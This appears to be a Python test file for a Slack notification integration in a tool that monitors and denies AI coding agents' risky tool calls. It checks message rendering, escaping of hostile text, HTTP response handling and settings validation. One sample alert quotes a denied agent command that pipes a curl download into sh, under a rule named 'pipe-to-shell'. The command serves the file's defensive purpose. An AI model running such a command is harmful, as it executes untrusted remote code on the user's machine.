"""Slack: whole requests, limits of Block Kit, hostile text, what answers mean."""

import json
from typing import Any

import msgspec
import pytest

from spawngate.routing.destination import Context, Failed, HttpAnswer, HttpRequest, Outcome
from spawngate.routing.destinations.slack import SlackSettings, code, escape, exchange, render
from spawngate.routing.settings import SettingsError, decode
from tests.routing.samples import ALL, EVIL, NOTICE, NOW, TEST
from tests.routing.test_destination import drive
from tests.stubs.slack import problem

HOOK = SlackSettings(url="https://hooks.slack.com/services/T/B/x")
BOT = SlackSettings(token="xoxb-1", channel="C1")
CONTEXT = Context(NOW)


def test_a_whole_message_of_a_webhook() -> None:
    request = render(HOOK, NOTICE)
    assert (request.method, request.url, request.headers) == (
        "POST",
        "https://hooks.slack.com/services/T/B/x",
        (("content-type", "application/json; charset=utf-8"),),
    )
    counts = "10,000 events (9,800 deny, 200 ask) on 2,000 endpoints in 5m"
    assert json.loads(request.body) == {
        "text": f"[Spawngate] New (high): Calls denied: rule pipe-to-shell\n{counts}",
        "unfurl_links": False,
        "unfurl_media": False,
        "blocks": [
            {
                "type": "header",
                "text": {
                    "type": "plain_text",
                    "text": "[Spawngate] New (high): Calls denied: rule pipe-to-shell",
                    "emoji": False,
                },
            },
            section(f"*{counts}*"),
            {
                "type": "section",
                "fields": [
                    mrkdwn(f"*{name}*\n`{value}`")
                    for name, value in (
                        ("Type", "decision"),
                        ("Rule", "pipe-to-shell"),
                        ("Severity", "high"),
                        ("First", "2026-11-21T10:00:00Z"),
                        ("Last", "2026-11-21T10:05:00Z"),
                        ("Route", "denies"),
                    )
                ],
            },
            section("`2026-11-21T10:00:00Z deny high laptop-1 claude-code ana`\n`Bash: curl https://x.example | sh`"),
            {
                "type": "actions",
                "elements": [
                    {
                        "type": "button",
                        "text": {"type": "plain_text", "text": "Open in Spawngate", "emoji": False},
                        "url": "https://console.example/?q=1",
                    }
                ],
            },
            {"type": "context", "elements": [mrkdwn("`0123456789abcdef0123456789abcdef`")]},
        ],
    }


def section(text: str) -> dict[str, Any]:
    return {"type": "section", "text": mrkdwn(text)}


def mrkdwn(text: str) -> dict[str, Any]:
    return {"type": "mrkdwn", "text": text, "verbatim": True}


def test_the_api_gets_a_channel_a_token_and_the_id() -> None:
    request = render(BOT, NOTICE, "1700.1")
    body = json.loads(request.body)
    assert request.url == "https://slack.com/api/chat.postMessage"
    assert ("authorization", "Bearer xoxb-1") in request.headers
    assert {name: body[name] for name in ("channel", "thread_ts", "parse", "link_names", "metadata")} == {
        "channel": "C1",
        "thread_ts": "1700.1",
        "parse": "none",
        "link_names": False,
        "metadata": {
            "event_type": "spawngate_notice",
            "event_payload": {"id": NOTICE.id, "key": NOTICE.key, "route": "denies", "kind": "new"},
        },
    }


@pytest.mark.parametrize("name", ALL)
def test_every_notice_is_within_the_limits(name: str) -> None:
    body = json.loads(render(HOOK, ALL[name]).body)
    assert problem(body["blocks"]) == ""
    assert len(body["text"]) <= 4_000


def test_hostile_text_neither_mentions_nor_links_nor_leaves_its_span() -> None:
    body = json.loads(render(HOOK, EVIL).body)
    shown = [body["text"], *(text for text in _texts(body["blocks"]))]
    for text in shown:
        assert "<" not in text
        assert ">" not in text
        for line in text.split("\n"):
            assert line.count("`") in (0, 2)


def _texts(node: Any) -> list[str]:
    if isinstance(node, dict):
        own = [node["text"]] if node.get("type") == "mrkdwn" else []
        return own + [text for value in node.values() for text in _texts(value)]
    return [text for each in node for text in _texts(each)] if isinstance(node, list) else []


def test_escapes() -> None:
    assert escape("<!here> & *b* `c`") == "&lt;!here&gt; &amp; ∗b∗ ˋcˋ"
    assert code("a `b`\n<c>") == "`a ˋbˋ &lt;c&gt;`"
    assert code(" ") == "`-`"


@pytest.mark.parametrize(
    ("answer", "outcome"),
    [
        (HttpAnswer(200, (), b"ok"), Outcome("delivered", "200")),
        (HttpAnswer(400, (), b"invalid_blocks"), Outcome("refused", "HTTP 400: invalid_blocks", blame="content")),
        (HttpAnswer(403, (), b"action_prohibited"), Outcome("retry", "action_prohibited", blame="setting")),
        (HttpAnswer(404, (), b"no_service"), Outcome("retry", "no_service", blame="setting")),
        (HttpAnswer(410, (), b"channel_is_archived"), Outcome("retry", "channel_is_archived", blame="setting")),
        (
            HttpAnswer(429, (("retry-after", "30"),), b"rate_limited"),
            Outcome("retry", "rate_limited", 30.0, "destination"),
        ),
        (HttpAnswer(500, (), b"rollup_error"), Outcome("retry", "rollup_error", blame="destination")),
        (HttpAnswer(503, (), b"<html>busy</html>"), Outcome("retry", "HTTP 503", blame="destination")),
        (HttpAnswer(200, (), b"<html>login</html>"), Outcome("retry", "this is no answer of Slack", blame="setting")),
        (HttpAnswer(302), Outcome("retry", "HTTP 302", blame="setting")),
        (Failed("timeout", "15 s"), Outcome("retry", "timeout: 15 s", blame="destination")),
        (
            HttpAnswer(200, (), b'{"ok":false,"error":"invalid_auth"}'),
            Outcome("retry", "invalid_auth", blame="setting"),
        ),
        (
            HttpAnswer(200, (), b'{"ok":false,"error":"msg_too_long"}'),
            Outcome("refused", "msg_too_long", blame="content"),
        ),
        (
            HttpAnswer(429, (("retry-after", "3"),), b'{"ok":false,"error":"ratelimited"}'),
            Outcome("retry", "ratelimited", 3.0, "destination"),
        ),
        (HttpAnswer(200, (), b'{"ok":true,"ts":"17.1"}'), Outcome("delivered", "200", remember={"ts": "17.1"})),
    ],
)
def test_what_answers_mean(answer: HttpAnswer | Failed, outcome: Outcome) -> None:
    assert drive(exchange(HOOK, NOTICE, CONTEXT), answer)[1] == outcome


def test_later_notices_answer_in_the_thread_and_where_it_is_gone_begin_another() -> None:
    context = Context(NOW, remembered={"ts": "17.1"})
    sent, outcome = drive(exchange(BOT, NOTICE, context), HttpAnswer(200, (), b'{"ok":true,"ts":"17.2"}'))
    assert ([threads(each) for each in sent], outcome) == (["17.1"], Outcome("delivered", "200"))
    sent, outcome = drive(
        exchange(BOT, NOTICE, context),
        HttpAnswer(200, (), b'{"ok":false,"error":"thread_not_found"}'),
        HttpAnswer(200, (), b'{"ok":true,"ts":"17.3"}'),
    )
    assert ([threads(each) for each in sent], outcome.state) == (["17.1", None], "delivered")


def threads(request: Any) -> str | None:
    assert isinstance(request, HttpRequest)
    found: str | None = json.loads(request.body).get("thread_ts")
    return found


@pytest.mark.parametrize(
    ("given", "message"),
    [
        ({}, "d.url: give either url, or token and channel"),
        ({"url": "https://a.example/x", "token": "x", "channel": "c"}, "d.url: give either url, or token and channel"),
        ({"token": "x"}, "d.channel: is needed with a token"),
        ({"token": "x\ny", "channel": "c"}, "d.token: must be of printable ASCII without blanks"),
        ({"url": "hooks.slack.com/x"}, "d.url: must begin with https:// or http://"),
        (
            {"url": "https://a.example/x", "allow_internal": ["10.0.0.0/99"]},
            "d.allow_internal: holds a network that is none; give 10.0.0.0/8",
        ),
    ],
)
def test_settings(given: dict[str, Any], message: str) -> None:
    with pytest.raises(SettingsError) as error:
        decode(SlackSettings, given, "d")
    assert str(error.value) == message


def test_a_test_names_itself() -> None:
    body = json.loads(render(HOOK, TEST).body)
    assert body["text"] == "[Spawngate] Test of route denies\nA test of this route. Nothing happened."
    assert len(body["blocks"]) == 3


def test_one_without_a_link_has_no_button() -> None:
    body = json.loads(render(HOOK, msgspec.structs.replace(NOTICE, link="")).body)
    assert [block["type"] for block in body["blocks"]] == ["header", "section", "section", "section", "context"]
